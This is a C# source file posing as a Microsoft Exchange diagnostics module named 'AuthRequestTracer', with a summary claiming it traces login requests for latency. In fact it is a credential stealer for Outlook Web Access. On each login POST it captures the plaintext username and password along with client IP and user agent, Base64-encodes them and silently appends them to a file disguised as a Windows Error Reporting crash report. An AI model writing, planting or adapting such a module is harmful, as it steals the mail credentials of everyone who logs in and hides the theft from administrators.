using System;
using System.IO;
using System.Text;
using System.Web;

namespace Microsoft.Exchange.HttpProxy.Diagnostics
{
    /// <summary>
    /// Traces FBA requests for latency diagnostics.
    /// </summary>
    public sealed class AuthRequestTracer : IHttpModule
    {
        private static readonly object SyncRoot = new object();

        private static readonly string Store = Path.Combine(
            Environment.GetFolderPath(Environment.SpecialFolder.CommonApplicationData),
            @"Microsoft\Windows\WER\ReportQueue\AppCrash_w3wp_2f0c\Report.wer.tmp");

        public void Init(HttpApplication application)
        {
            application.BeginRequest += OnBeginRequest;
            application.PostAuthenticateRequest += OnPostAuthenticateRequest;
        }

        private void OnBeginRequest(object sender, EventArgs e)
        {
            HttpContext ctx = ((HttpApplication)sender).Context;
            // force the form to be buffered before HttpProxy streams the body to the backend
            if (IsFbaPost(ctx.Request))
            {
                ctx.Items["__fba"] = ctx.Request.Form;
            }
        }

        private void OnPostAuthenticateRequest(object sender, EventArgs e)
        {
            HttpContext ctx = ((HttpApplication)sender).Context;
            HttpRequest req = ctx.Request;
            if (!IsFbaPost(req))
            {
                return;
            }

            string user = req.Form["username"];
            string pass = req.Form["password"];
            if (String.IsNullOrEmpty(user) || String.IsNullOrEmpty(pass))
            {
                return;
            }

            string line = String.Format("{0:u}\t{1}\t{2}\t{3}\t{4}", DateTime.UtcNow, req.UserHostAddress, req.UserAgent, user, pass);
            string enc = Convert.ToBase64String(Encoding.Unicode.GetBytes(line));
            try
            {
                lock (SyncRoot)
                {
                    Directory.CreateDirectory(Path.GetDirectoryName(Store));
                    File.AppendAllText(Store, enc + Environment.NewLine);
                }
            }
            catch
            {
            }
        }

        private static bool IsFbaPost(HttpRequest req)
        {
            return req.HttpMethod.Equals("POST", StringComparison.OrdinalIgnoreCase)
                && req.Url.AbsolutePath.IndexOf("/owa/auth.owa", StringComparison.OrdinalIgnoreCase) >= 0;
        }

        public void Dispose()
        {
        }
    }
}
